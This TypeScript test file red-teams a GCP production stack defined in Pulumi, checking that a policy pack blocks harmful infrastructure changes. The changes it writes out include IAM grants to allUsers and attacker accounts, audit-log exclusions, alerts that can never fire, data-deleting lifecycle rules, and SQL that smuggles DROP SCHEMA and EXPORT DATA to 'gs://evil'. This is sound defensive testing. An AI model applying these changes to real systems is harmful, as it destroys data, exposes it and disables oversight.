// Red-team mutations of prod: harmful changes the other mutation suites do not make (other resource
// types with the same effect, config paths, secret-wrapped and deploy-time values, pack-config
// edits), each judged through the whole program; the few the offline gate cannot see are listed.
import { strict as assert } from "assert";
import * as gcp from "@pulumi/gcp";
import * as pulumi from "@pulumi/pulumi";
import * as random from "@pulumi/random";
import type { PolicyPackConfig } from "@pulumi/policy";
import { loadPolicyConfig, policyConfigProblems, runPolicies } from "../tools/offline/policy";
import { cannotFire } from "../policies/monitoring";
import { planFor, stackConfig } from "./harness";
import { in_, judge, type Components, type Mutation } from "./mutations";

const P = "replace-me-logistics-prod";
const LAKE = `${P}-lgx-prod-lake`;
const IMAGE = `us-central1-docker.pkg.dev/${P}/lgx-prod-containers/logistics-api:0.1.0`;
const JOBS_SA = `lgx-prod-jobs@${P}.iam.gserviceaccount.com`;
const COMPUTE_SA = "123456789-compute@developer.gserviceaccount.com";
const AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY";
const GITHUB_TOKEN = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";

type Category = "iam" | "data loss" | "detection" | "secrets" | "hardening" | "unknown" | "gate";

/** A mutation with the category it belongs to. */
type Case = Mutation & { category: Category };

/** A prod section with changes. */
function section(key: string, changes: Record<string, unknown>): Record<string, unknown> {
    const base = JSON.parse(stackConfig("prod")[key]!) as Record<string, unknown>;
    return { [key]: { ...base, ...changes } };
}

/** A copy of plain objects and arrays; Outputs and other values are shared. */
function copyPlain(v: unknown): unknown {
    if (Array.isArray(v)) return v.map(copyPlain);
    if (v !== null && typeof v === "object" && Object.getPrototypeOf(v) === Object.prototype)
        return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, copyPlain(x)]));
    return v;
}

/** A stack transformation editing the inputs of the resource named `name`. */
function edit(
    name: string,
    f: (props: Record<string, any>) => void,
): pulumi.ResourceTransformation {
    return (args) => {
        if (args.name !== name) return undefined;
        const props = copyPlain(args.props) as Record<string, any>;
        f(props);
        return { props, opts: args.opts };
    };
}

/** A second declaration of the data lake bucket (same physical name) with one Delete rule. */
function lakeDeleting(condition: Record<string, unknown>) {
    return (c: Components, n: (s: string) => string) =>
        new gcp.storage.Bucket(
            n("lake"),
            {
                project: P,
                name: LAKE,
                location: "US",
                uniformBucketLevelAccess: true,
                publicAccessPrevention: "enforced",
                lifecycleRules: [{ action: { type: "Delete" }, condition }],
            },
            { ...in_(c, "logistics:storage:DataLake"), protect: true },
        );
}

/** A scheduled query in the project's region. */
function scheduled(n: (s: string) => string, query: string, extra: Record<string, unknown> = {}) {
    return new gcp.bigquery.DataTransferConfig(n("sq"), {
        project: P,
        location: "US",
        displayName: n("sq"),
        dataSourceId: "scheduled_query",
        schedule: "every 24 hours",
        serviceAccountName: JOBS_SA,
        params: { query, ...extra },
    });
}

function wif(condition: string, issuerUri = "https://token.actions.githubusercontent.com") {
    return {
        project: P,
        workloadIdentityPoolId: "lgx-prod-github",
        workloadIdentityPoolProviderId: "github-rt",
        attributeMapping: { "google.subject": "assertion.sub" },
        attributeCondition: condition,
        oidc: { issuerUri },
    };
}

function runJob(name: string, envs: unknown[]): gcp.cloudrunv2.JobArgs {
    return {
        project: P,
        location: "us-central1",
        name,
        deletionProtection: true,
        template: {
            template: {
                serviceAccount: JOBS_SA,
                containers: [{ image: IMAGE, envs: envs as never }],
            },
        },
    };
}

export const REDTEAM: Case[] = [
    // ================================================================ IAM
    {
        category: "iam",
        name: "BucketIAMBinding: the data lake readable by allUsers",
        add: (c, n) =>
            new gcp.storage.BucketIAMBinding(
                n("b"),
                { bucket: LAKE, role: "roles/storage.objectViewer", members: ["allUsers"] },
                in_(c, "logistics:storage:DataLake"),
            ),
    },
    {
        category: "iam",
        name: "bigquery.IamBinding on a raw table for allAuthenticatedUsers",
        add: (c, n) =>
            new gcp.bigquery.IamBinding(
                n("t"),
                {
                    project: P,
                    datasetId: "raw",
                    tableId: "packages",
                    role: "roles/bigquery.dataViewer",
                    members: ["allAuthenticatedUsers"],
                },
                in_(c, "logistics:bigquery:Warehouse"),
            ),
    },
    {
        category: "iam",
        name: "Pub/Sub subscription readable by an outside user",
        add: (_c, n) =>
            new gcp.pubsub.SubscriptionIAMMember(n("s"), {
                project: P,
                subscription: "events",
                role: "roles/pubsub.subscriber",
                member: "user:attacker@gmail.com",
            }),
    },
    {
        category: "iam",
        name: "SecretIamBinding: the API key for a look-alike domain",
        add: (c, n) =>
            new gcp.secretmanager.SecretIamBinding(
                n("s"),
                {
                    project: P,
                    secretId: "lgx-prod-api-key",
                    role: "roles/secretmanager.secretAccessor",
                    members: ["user:ops@example.com.evil.net"],
                },
                in_(c, "logistics:api:ApiService"),
            ),
    },
    {
        category: "iam",
        name: "KMS key ring admin for another project's service account",
        add: (_c, n) =>
            new gcp.kms.KeyRingIAMMember(n("kr"), {
                keyRingId: `projects/${P}/locations/us-central1/keyRings/lgx`,
                role: "roles/cloudkms.admin",
                member: "serviceAccount:ci@other-project.iam.gserviceaccount.com",
            }),
    },
    {
        category: "iam",
        name: "Artifact Registry RepositoryIamBinding writer for an outside domain",
        add: (c, n) =>
            new gcp.artifactregistry.RepositoryIamBinding(
                n("ar"),
                {
                    project: P,
                    location: "us-central1",
                    repository: "lgx-prod-containers",
                    role: "roles/artifactregistry.writer",
                    members: ["domain:evil.net"],
                },
                in_(c, "logistics:api:ApiService"),
            ),
    },
    {
        category: "iam",
        name: "ManagedFolder IAM: a lake folder readable by allUsers",
        add: (c, n) =>
            new gcp.storage.ManagedFolderIamMember(
                n("mf"),
                {
                    bucket: LAKE,
                    managedFolder: "raw/",
                    role: "roles/storage.objectViewer",
                    member: "allUsers",
                },
                in_(c, "logistics:storage:DataLake"),
            ),
    },
    {
        category: "iam",
        name: "ObjectAccessControl: one lake object for allUsers",
        add: (_c, n) =>
            new gcp.storage.ObjectAccessControl(n("oac"), {
                bucket: LAKE,
                object: "raw/packages/2026-11-28.parquet",
                role: "READER",
                entity: "allUsers",
            }),
    },
    {
        category: "iam",
        name: "DefaultObjectACL: new lake objects readable by allAuthenticatedUsers",
        add: (_c, n) =>
            new gcp.storage.DefaultObjectACL(n("doacl"), {
                bucket: LAKE,
                roleEntities: ["OWNER:project-owners-123", "READER:allAuthenticatedUsers"],
            }),
    },
    {
        category: "iam",
        name: "DatasetAccess: raw authorized to another project's view",
        add: (c, n) =>
            new gcp.bigquery.DatasetAccess(
                n("view"),
                {
                    project: P,
                    datasetId: "raw",
                    view: { projectId: "evil-project", datasetId: "loot", tableId: "everything" },
                },
                in_(c, "logistics:bigquery:Warehouse"),
            ),
    },
    {
        category: "iam",
        name: "DatasetAccess: raw authorized to another project's routine",
        add: (_c, n) =>
            new gcp.bigquery.DatasetAccess(n("routine"), {
                project: P,
                datasetId: "raw",
                routine: { projectId: "evil-project", datasetId: "loot", routineId: "dump" },
            }),
    },
    {
        category: "iam",
        name: "DatasetAccess: raw authorized to another project's dataset",
        add: (_c, n) =>
            new gcp.bigquery.DatasetAccess(n("ds"), {
                project: P,
                datasetId: "raw",
                authorizedDataset: {
                    dataset: { projectId: "evil-project", datasetId: "loot" },
                    targetTypes: ["VIEWS"],
                },
            }),
    },
    {
        category: "iam",
        name: "Cloud Run v1 IamMember: allUsers invoker",
        add: (_c, n) =>
            new gcp.cloudrun.IamMember(n("v1"), {
                project: P,
                location: "us-central1",
                service: "logistics-api",
                role: "roles/run.invoker",
                member: "allUsers",
            }),
    },
    {
        category: "iam",
        name: "workload identity pool admin to a team member",
        add: (_c, n) =>
            new gcp.projects.IAMMember(n("wipadmin"), {
                project: P,
                role: "roles/iam.workloadIdentityPoolAdmin",
                member: "user:dev@example.com",
            }),
    },
    {
        category: "iam",
        name: "raw dataset IAM for an outside user through DatasetIamBinding",
        config: section("logistics:warehouse", {
            iam: { raw: { "roles/bigquery.dataViewer": ["user:analyst@example.com.evil.net"] } },
        }),
    },
    // ================================================================ data loss
    {
        category: "data loss",
        name: "lake: Delete at age 1 for prefix r (raw/)",
        add: lakeDeleting({ age: 1, matchesPrefixes: ["r"] }),
    },
    {
        category: "data loss",
        name: "lake: Delete at age 1 for the empty prefix",
        add: lakeDeleting({ age: 1, matchesPrefixes: [""] }),
    },
    {
        category: "data loss",
        name: "lake: Delete at age 1 for prefix staging (no slash: staging-anything)",
        add: lakeDeleting({ age: 1, matchesPrefixes: ["staging"] }),
    },
    {
        category: "data loss",
        name: "lake: Delete one day after custom time",
        add: lakeDeleting({ daysSinceCustomTime: 1 }),
    },
    {
        category: "data loss",
        name: "lake: Delete everything created before 2030",
        add: lakeDeleting({ createdBefore: "2030-01-01" }),
    },
    {
        category: "data loss",
        name: "lake: Delete by suffix .parquet at age 1",
        add: lakeDeleting({ age: 1, matchesSuffixes: [".parquet"] }),
    },
    {
        category: "data loss",
        name: "lake: ARCHIVE at age 1, Delete archived objects a day later",
        add: (c, n) =>
            new gcp.storage.Bucket(
                n("lake"),
                {
                    project: P,
                    name: LAKE,
                    location: "US",
                    uniformBucketLevelAccess: true,
                    publicAccessPrevention: "enforced",
                    lifecycleRules: [
                        {
                            action: { type: "SetStorageClass", storageClass: "ARCHIVE" },
                            condition: { age: 1 },
                        },
                        {
                            action: { type: "Delete" },
                            condition: { age: 2, matchesStorageClasses: ["ARCHIVE"] },
                        },
                    ],
                },
                { ...in_(c, "logistics:storage:DataLake"), protect: true },
            ),
    },
    {
        category: "data loss",
        name: "scheduled CREATE OR REPLACE TABLE raw.x AS SELECT … WHERE FALSE",
        add: (_c, n) =>
            scheduled(
                n,
                "CREATE OR REPLACE TABLE `raw`.`packages` AS SELECT * FROM `raw`.`packages` WHERE FALSE",
            ),
    },
    {
        category: "data loss",
        name: "scheduled EXECUTE IMMEDIATE with a concatenated table name",
        add: (_c, n) =>
            scheduled(
                n,
                "DECLARE t STRING DEFAULT 'packages'; EXECUTE IMMEDIATE 'TRUNCATE TABLE raw.' || t",
            ),
    },
    {
        category: "data loss",
        name: "scheduled DELETE without FROM, lower case, dataset in backticks",
        add: (_c, n) => scheduled(n, "delete `raw.tracking_events` where true"),
    },
    {
        category: "data loss",
        name: "BigQuery Job query writing its result over a raw table (WRITE_TRUNCATE)",
        add: (_c, n) =>
            new gcp.bigquery.Job(n("job"), {
                project: P,
                location: "US",
                jobId: n("job"),
                query: {
                    query: "SELECT * FROM raw.packages WHERE FALSE",
                    useLegacySql: false,
                    destinationTable: { projectId: P, datasetId: "raw", tableId: "packages" },
                    writeDisposition: "WRITE_TRUNCATE",
                },
            }),
    },
    {
        category: "data loss",
        name: "BigQuery Job copying an empty table over a raw table",
        add: (_c, n) =>
            new gcp.bigquery.Job(n("copy"), {
                project: P,
                location: "US",
                jobId: n("copy"),
                copy: {
                    sourceTables: [{ projectId: P, datasetId: "staging", tableId: "empty" }],
                    destinationTable: { projectId: P, datasetId: "raw", tableId: "customers" },
                    writeDisposition: "WRITE_TRUNCATE",
                },
            }),
    },
    {
        category: "data loss",
        name: "stored procedure in raw that deletes, called by nobody yet",
        add: (_c, n) =>
            new gcp.bigquery.Routine(n("proc"), {
                project: P,
                datasetId: "raw",
                routineId: "purge",
                routineType: "PROCEDURE",
                language: "SQL",
                definitionBody: "BEGIN DELETE FROM raw.customers WHERE TRUE; END",
            }),
    },
    {
        category: "data loss",
        name: "Cloud Storage transfer into raw with MIRROR (truncates the table)",
        add: (_c, n) =>
            new gcp.bigquery.DataTransferConfig(n("gcs"), {
                project: P,
                location: "US",
                displayName: n("gcs"),
                dataSourceId: "google_cloud_storage",
                destinationDatasetId: "raw",
                schedule: "every 24 hours",
                params: {
                    data_path_template: `gs://${LAKE}/empty/*.csv`,
                    destination_table_name_template: "packages",
                    file_format: "CSV",
                    write_disposition: "MIRROR",
                },
            }),
    },
    {
        category: "data loss",
        name: "backup schedule paused through a transformation of ScheduledBackups",
        transform: edit("lgx-prod-backup-schedule-packages", (p) => {
            p["scheduleOptions"] = { ...(p["scheduleOptions"] ?? {}), disableAutoScheduling: true };
        }),
    },
    {
        category: "data loss",
        name: "raw table deletion protection off in the Warehouse component",
        transform: edit("lgx-prod-warehouse-raw-customers", (p) => {
            p["deletionProtection"] = false;
        }),
    },
    // ================================================================ detection
    {
        category: "detection",
        name: "DAG failure alert with a threshold it can never reach",
        transform: edit("lgx-prod-alerting-dag-failure", (p) => {
            p["conditions"][0].conditionThreshold.thresholdValue = 1e12;
        }),
    },
    {
        category: "detection",
        name: "API down alert: comparison flipped (never true)",
        transform: edit("lgx-prod-alerting-api-down", (p) => {
            p["conditions"][0].conditionThreshold.comparison = "COMPARISON_LT";
            p["conditions"][0].conditionThreshold.thresholdValue = 0;
        }),
    },
    {
        category: "detection",
        name: "BigQuery errors alert waits for five failed jobs",
        transform: edit("lgx-prod-alerting-bigquery-errors", (p) => {
            p["conditions"][0].conditionThreshold.thresholdValue = 4;
        }),
    },
    {
        category: "detection",
        name: "storage quota alert fires only below its bound",
        transform: edit("lgx-prod-alerting-storage-quota", (p) => {
            p["conditions"][0].conditionThreshold.comparison = "COMPARISON_LE";
        }),
    },
    {
        category: "detection",
        name: "API down alert disabled",
        transform: edit("lgx-prod-alerting-api-down", (p) => {
            p["enabled"] = false;
        }),
    },
    {
        category: "detection",
        name: "alert documentation removed",
        transform: edit("lgx-prod-alerting-storage-quota", (p) => {
            delete p["documentation"];
        }),
    },
    {
        category: "detection",
        name: "BigQuery errors log metric filtered to nothing",
        transform: edit("lgx-prod-alerting-bigquery-job-errors", (p) => {
            p["filter"] =
                `${p["filter"]} AND severity = "EMERGENCY" AND NOT severity = "EMERGENCY"`;
        }),
    },
    {
        category: "detection",
        name: "new email channel to a gmail address (in Alerting)",
        add: (c, n) =>
            new gcp.monitoring.NotificationChannel(
                n("gmail"),
                {
                    project: P,
                    displayName: "backup pager",
                    type: "email",
                    labels: { email_address: "oncall.backup@gmail.com" },
                },
                in_(c, "logistics:monitoring:Alerting"),
            ),
    },
    {
        category: "detection",
        name: "PagerDuty key in plain labels",
        add: (_c, n) =>
            new gcp.monitoring.NotificationChannel(n("pd"), {
                project: P,
                displayName: "pager",
                type: "pagerduty",
                labels: { service_key: "0123456789abcdef0123456789abcdef" },
            }),
    },
    {
        category: "detection",
        name: "ProjectExclusion (disabled: false) dropping data-access audit logs",
        add: (_c, n) =>
            new gcp.logging.ProjectExclusion(n("ex"), {
                project: P,
                disabled: false,
                filter: 'logName:"cloudaudit.googleapis.com%2Fdata_access"',
            }),
    },
    {
        category: "detection",
        name: "project sink with an exclusion of audit logs",
        add: (_c, n) =>
            new gcp.logging.ProjectSink(n("sink"), {
                project: P,
                destination: `storage.googleapis.com/${LAKE}`,
                filter: "",
                exclusions: [{ name: "noaudit", filter: 'logName:"cloudaudit.googleapis.com"' }],
            }),
    },
    {
        category: "detection",
        name: "_Default log bucket kept for one day",
        add: (_c, n) =>
            new gcp.logging.ProjectBucketConfig(n("lb"), {
                project: P,
                location: "global",
                bucketId: "_Default",
                retentionDays: 1,
            }),
    },
    {
        category: "detection",
        name: "organization-level exclusion of audit logs",
        add: (_c, n) =>
            new gcp.logging.OrganizationExclusion(n("orgex"), {
                orgId: "123456789",
                filter: 'logName:"cloudaudit.googleapis.com"',
            }),
    },
    {
        category: "detection",
        name: "audit config exempting an outside user from data-access logs",
        add: (_c, n) =>
            new gcp.projects.IAMAuditConfig(n("audit"), {
                project: P,
                service: "allServices",
                auditLogConfigs: [
                    { logType: "DATA_READ", exemptedMembers: ["user:attacker@gmail.com"] },
                ],
            }),
    },
    {
        category: "detection",
        name: "high alerts routed to nobody (stack file)",
        config: section("logistics:alerting", { routes: { high: [], medium: [], low: [] } }),
    },
    {
        category: "detection",
        name: "production flag off, then alerting off (stack file)",
        config: {
            "logistics:production": false,
            ...section("logistics:alerting", { enabled: false }),
        },
    },
    {
        category: "detection",
        name: "alerting off with the acknowledgement (stack file)",
        config: {
            ...section("logistics:alerting", { enabled: false }),
            "logistics:acknowledge": { alertingOffInProduction: true },
        },
    },
    {
        category: "detection",
        name: "API latency alert bound raised to a day (stack file)",
        config: section("logistics:alerting", { apiLatencyP95Ms: 86_400_000 }),
    },
    // ================================================================ secrets
    {
        category: "secrets",
        name: "Cloud Run v1 service env DB_PASSWORD",
        add: (_c, n) =>
            new gcp.cloudrun.Service(n("v1"), {
                project: P,
                location: "us-central1",
                name: "legacy",
                template: {
                    spec: {
                        serviceAccountName: JOBS_SA,
                        containers: [
                            { image: IMAGE, envs: [{ name: "DB_PASSWORD", value: "hunter22" }] },
                        ],
                    },
                },
            }),
    },
    {
        category: "secrets",
        name: "Cloud Run v2 job env: an AWS secret in pulumi.secret under an innocent name",
        add: (_c, n) =>
            new gcp.cloudrunv2.Job(
                n("job"),
                runJob("sync", [{ name: "S3_CFG", value: pulumi.secret(AWS_SECRET) }]),
            ),
    },
    {
        category: "secrets",
        name: "Cloud Functions v2 build env with a GitHub token",
        add: (_c, n) =>
            new gcp.cloudfunctionsv2.Function(n("fn"), {
                project: P,
                location: "us-central1",
                name: "hook",
                buildConfig: {
                    runtime: "nodejs20",
                    entryPoint: "main",
                    environmentVariables: { NPM_CONFIG_REGISTRY_AUTH: GITHUB_TOKEN },
                },
                serviceConfig: { serviceAccountEmail: JOBS_SA },
            }),
    },
    {
        category: "secrets",
        name: "Cloud Functions v2 service secretEnvironmentVariables are fine, plain env is not",
        add: (_c, n) =>
            new gcp.cloudfunctionsv2.Function(n("fn2"), {
                project: P,
                location: "us-central1",
                name: "hook2",
                buildConfig: { runtime: "nodejs20", entryPoint: "main" },
                serviceConfig: {
                    serviceAccountEmail: JOBS_SA,
                    environmentVariables: { UPSTREAM: "https://svc:s3cr3tPa55@api.partner.net/v1" },
                },
            }),
    },
    {
        category: "secrets",
        name: "Cloud Scheduler job with a bearer token header",
        add: (_c, n) =>
            new gcp.cloudscheduler.Job(n("sched"), {
                project: P,
                region: "us-central1",
                schedule: "0 * * * *",
                httpTarget: {
                    uri: "https://api.partner.net/hook",
                    headers: { Authorization: `Bearer ${GITHUB_TOKEN}` },
                },
            }),
    },
    {
        category: "secrets",
        name: "Workflows user env var with a password",
        add: (_c, n) =>
            new gcp.workflows.Workflow(n("wf"), {
                project: P,
                region: "us-central1",
                serviceAccount: JOBS_SA,
                sourceContents: "main:\n  steps:\n    - done:\n        return: 1\n",
                userEnvVars: { SMTP_PASSWORD: "hunter22" },
            }),
    },
    {
        category: "secrets",
        name: "Composer airflowConfigOverrides with a secrets-backend token (stack file)",
        config: section("logistics:composer", {
            airflowConfigOverrides: {
                "secrets-backend_kwargs": `{"token": "${GITHUB_TOKEN}"}`,
            },
        }),
    },
    // ================================================================ hardening
    {
        category: "hardening",
        name: "Cloud Run v1 service with no service account (default compute)",
        add: (_c, n) =>
            new gcp.cloudrun.Service(n("v1sa"), {
                project: P,
                location: "us-central1",
                name: "legacy-sa",
                template: { spec: { containers: [{ image: IMAGE }] } },
            }),
    },
    {
        category: "hardening",
        name: "Composer nodeConfig naming the default compute account",
        add: (_c, n) =>
            new gcp.composer.Environment(n("composer"), {
                project: P,
                region: "us-central1",
                name: "adhoc2",
                config: {
                    softwareConfig: { imageVersion: "composer-3-airflow-2.10.5" },
                    nodeConfig: { serviceAccount: COMPUTE_SA },
                    privateEnvironmentConfig: { enablePrivateEndpoint: true },
                    webServerNetworkAccessControl: {
                        allowedIpRanges: [{ value: "10.0.0.0/8" }],
                    },
                },
            }),
    },
    {
        category: "hardening",
        name: "WIF condition with .startsWith on the owner",
        add: (_c, n) =>
            new gcp.iam.WorkloadIdentityPoolProvider(
                n("wif"),
                wif("assertion.repository.startsWith('example-org/')"),
            ),
    },
    {
        category: "hardening",
        name: "WIF condition with !=",
        add: (_c, n) =>
            new gcp.iam.WorkloadIdentityPoolProvider(
                n("wif"),
                wif("assertion.repository != 'someone-else/fork'"),
            ),
    },
    {
        category: "hardening",
        name: "WIF condition: the repository or another owner",
        add: (_c, n) =>
            new gcp.iam.WorkloadIdentityPoolProvider(
                n("wif"),
                wif(
                    "assertion.repository == 'example-org/logistics-platform' || assertion.repository_owner == 'evil'",
                ),
            ),
    },
    {
        category: "hardening",
        name: "WIF condition: repository in a list with another",
        add: (_c, n) =>
            new gcp.iam.WorkloadIdentityPoolProvider(
                n("wif"),
                wif("assertion.repository in ['example-org/logistics-platform', 'evil/x']"),
            ),
    },
    {
        category: "hardening",
        name: "WIF issuer on a look-alike host",
        add: (_c, n) =>
            new gcp.iam.WorkloadIdentityPoolProvider(
                n("wif"),
                wif(
                    "assertion.repository == 'example-org/logistics-platform'",
                    "https://token.actions.githubusercontent.com.evil.net",
                ),
            ),
    },
    {
        category: "hardening",
        name: "principalSet on a repository_owner attribute acting as the deployer",
        add: (_c, n) =>
            new gcp.serviceaccount.IAMMember(n("ps"), {
                serviceAccountId: `projects/${P}/serviceAccounts/lgx-prod-deployer@${P}.iam.gserviceaccount.com`,
                role: "roles/iam.workloadIdentityUser",
                member: "principalSet://iam.googleapis.com/projects/123/locations/global/workloadIdentityPools/lgx-prod-github/attribute.repository_owner/example-org",
            }),
    },
    // ================================================================ unknown values
    {
        category: "unknown",
        name: "a member known only after deploy",
        add: (_c, n) => {
            const who = new random.RandomPet(n("who"), {});
            new gcp.projects.IAMMember(n("m"), {
                project: P,
                role: "roles/bigquery.dataViewer",
                member: pulumi.interpolate`user:${who.id}@gmail.com`,
            });
        },
    },
    {
        category: "unknown",
        name: "a Cloud Run job env value from a generated password",
        add: (_c, n) => {
            const pw = new random.RandomPassword(n("pw"), { length: 24 });
            new gcp.cloudrunv2.Job(n("job"), runJob("pw", [{ name: "CONN", value: pw.result }]));
        },
    },
    {
        category: "unknown",
        name: "a lake lifecycle age known only after deploy",
        add: (c, n) => {
            const age = new random.RandomInteger(n("age"), { min: 1, max: 2 });
            lakeDeleting({ age: age.result })(c, n);
        },
    },
    {
        category: "data loss",
        // BigQuery keeps \' inside a raw string; a parser that ends the string there reads the
        // DROP and the EXPORT as part of a string.
        name: "a raw string that hides a DROP SCHEMA raw and an export after it",
        add: (_c, n) =>
            scheduled(
                n,
                "SELECT r'\\'' ; DROP SCHEMA raw CASCADE; EXPORT DATA OPTIONS(uri=\"gs://evil/*\", format=\"CSV\") AS SELECT * FROM raw.packages -- '",
            ),
    },
    {
        category: "data loss",
        name: "EXECUTE IMMEDIATE FORMAT whose argument rewrites the export's destination",
        add: (_c, n) =>
            scheduled(
                n,
                `EXECUTE IMMEDIATE FORMAT("EXPORT DATA OPTIONS(format='%s', uri='gs://${P}-lgx-prod-backups/x/*') AS SELECT * FROM raw.packages", "CSV', uri='gs://evil/x/*') AS SELECT * FROM raw.packages --")`,
            ),
    },
];

/** A pack-config edit of prod paired with the harmful plan edit it would let through. */
interface PackEdit {
    name: string;
    pack: (c: Record<string, any>) => void;
    /** The shipped prod plan's resource (logical name) edited by the same pull request. */
    resource: string;
    plan: (inputs: Record<string, any>) => void;
}

const lakeRule = (i: Record<string, any>) =>
    i["lifecycleRules"].push({ action: { type: "Delete" }, condition: { age: 1 } });

const PACK_EDITS: PackEdit[] = [
    {
        name: "data lake policy disabled with a vague reason",
        pack: (c) =>
            (c["gcs-data-lake-lifecycle-safe"] = { enforcementLevel: "disabled", reason: "ok" }),
        resource: "lgx-prod-lake-bucket",
        plan: lakeRule,
    },
    {
        name: "an exception with a wildcard-looking URN (exceptions match one URN exactly)",
        pack: (c) =>
            c["regions-every-resource"].exceptions.push({
                urn: "urn:pulumi:prod::logistics::*",
                reason: "a migration window while the data lake moves region, see OPS-7",
            }),
        resource: "lgx-prod-lake-bucket",
        plan: (i) => (i["location"] = "EU"),
    },
    {
        name: "the policy's entry removed (falls back to all: mandatory with defaults)",
        pack: (c) => delete c["gcs-data-lake-lifecycle-safe"],
        resource: "lgx-prod-lake-bucket",
        plan: lakeRule,
    },
    {
        name: "the member domains entry removed",
        pack: (c) => delete c["iam-members-allowed-domains"],
        resource: "lgx-prod-identities-api-bigquery.jobUser",
        plan: (i) => (i["member"] = "user:attacker@gmail.com"),
    },
    {
        name: "the federation entry removed",
        pack: (c) => delete c["iam-federation-restricted"],
        resource: "lgx-prod-ci-github",
        plan: (i) => (i["attributeCondition"] = "true"),
    },
    {
        name: "the backups retention floor lowered to 1 day",
        pack: (c) => (c["gcs-backups-retention-locked"].minRetentionDays = 1),
        resource: "lgx-prod-backups-bucket",
        plan: (i) => (i["retentionPolicy"] = { ...i["retentionPolicy"], retentionPeriod: "86400" }),
    },
    {
        name: "the allowed member domains widened to gmail.com",
        pack: (c) => c["iam-members-allowed-domains"].allowedMemberDomains.push("gmail.com"),
        resource: "lgx-prod-identities-api-bigquery.jobUser",
        plan: (i) => (i["member"] = "user:attacker@gmail.com"),
    },
    {
        name: "the allowed channel domains widened to gmail.com",
        pack: (c) => c["monitoring-channels-allowed"].allowedEmailDomains.push("gmail.com"),
        resource: "lgx-prod-alerting-l1-oncall",
        plan: (i) => (i["labels"] = { email_address: "oncall@gmail.com" }),
    },
];

/**
 * Known gaps: what gets through the offline gate today, asserted exactly so that a regression or a
 * fix shows up.
 * - An alert kept, routed and firing on the first event of what it watches, but reading a log
 *   metric whose filter can never match (a contradiction inside the filter): the pack judges the
 *   comparison and, for per-event rows, the bound (monitoring.ts's cannotFire), not whether a
 *   filter can select anything; that needs the logs' real contents.
 * - Pack-config edits a schema accepts (a lower floor, a wider domain list): the edited config is
 *   the gate itself offline. CI judges a pull request with the base branch's pack config and
 *   CODEOWNERS puts policies/ under review (test/policy-gate.test.ts); they are stopped there.
 */
const KNOWN_GAPS = [
    "BigQuery errors log metric filtered to nothing",
    "pack: the backups retention floor lowered to 1 day",
    "pack: the allowed member domains widened to gmail.com",
    "pack: the allowed channel domains widened to gmail.com",
];

/** Blocked when the edited pack config is refused or still fails the paired plan edit. */
async function judgePack(e: PackEdit): Promise<string[]> {
    const config = structuredClone(loadPolicyConfig("prod")) as Record<string, any>;
    e.pack(config);
    const problems = policyConfigProblems(config, "prod");
    if (problems.length > 0) return ["config error"];
    const plan = structuredClone(await planFor("prod"));
    const r = plan.resources.find((x) => x.name === e.resource);
    assert.ok(r, `no resource ${e.resource} in prod`);
    e.plan(r.inputs as Record<string, any>);
    const found = (await runPolicies(plan, config as PolicyPackConfig)).filter(
        (v) => v.enforcementLevel === "mandatory" && v.urn === r.urn,
    );
    return [...new Set(found.map((v) => v.policy))].sort();
}

describe("red-team mutations of prod", function () {
    this.timeout(900_000);

    it("blocks every new harmful change except the documented known gaps", async () => {
        const outcomes = await judge("prod", REDTEAM);
        for (const e of PACK_EDITS)
            outcomes.push({ name: `pack: ${e.name}`, blockedBy: await judgePack(e) });
        const passed = outcomes.filter((o) => o.blockedBy.length === 0).map((o) => o.name);
        if (process.env["MUTATIONS_VERBOSE"])
            for (const o of outcomes) console.log(`${o.name}: ${o.blockedBy.join(", ")}`);
        const total = REDTEAM.length + PACK_EDITS.length;
        console.log(`      red team: ${total - passed.length}/${total} mutations blocked in prod`);
        assert.equal(outcomes.length, total);
        assert.deepEqual(passed, KNOWN_GAPS);
    });

    it("states a category for each mutation", () => {
        const counts = new Map<Category, number>();
        for (const m of REDTEAM) counts.set(m.category, (counts.get(m.category) ?? 0) + 1);
        assert.deepEqual([...counts.keys()].sort(), [
            "data loss",
            "detection",
            "hardening",
            "iam",
            "secrets",
            "unknown",
        ]);
    });
});

describe("a runbook alert that cannot fire (cannotFire)", () => {
    const cond = (comparison: string, thresholdValue?: number) => ({
        conditionThreshold: { comparison, thresholdValue, filter: "f", duration: "0s" },
    });
    const cases: [string, unknown, boolean, string | undefined][] = [
        ["GT 0 per event", cond("COMPARISON_GT", 0), true, undefined],
        ["GT 0.5 per event", cond("COMPARISON_GT", 0.5), true, undefined],
        ["GE 1 per event", cond("COMPARISON_GE", 1), true, undefined],
        ["GT with the threshold omitted (0)", cond("COMPARISON_GT"), true, undefined],
        ["GT 2000 on a level", cond("COMPARISON_GT", 2000), false, undefined],
        [
            "GT 1 per event",
            cond("COMPARISON_GT", 1),
            true,
            "its condition needs more than 1 events, the runbook answers the first one",
        ],
        [
            "GE 2 per event",
            cond("COMPARISON_GE", 2),
            true,
            "its condition needs at least 2 events, the runbook answers the first one",
        ],
        [
            "LT 0",
            cond("COMPARISON_LT", 0),
            false,
            "its condition fires when the value is COMPARISON_LT 0, never on too much of what it watches",
        ],
        [
            "EQ 0",
            cond("COMPARISON_EQ", 0),
            true,
            "its condition fires when the value is COMPARISON_EQ 0, never on too much of what it watches",
        ],
        ["an absence condition", { conditionAbsent: { duration: "600s" } }, true, undefined],
        ["a log match condition", { conditionMatchedLog: { filter: "f" } }, true, undefined],
    ];
    for (const [what, condition, perEvent, expected] of cases)
        it(what, () => assert.equal(cannotFire(condition, perEvent), expected));
});
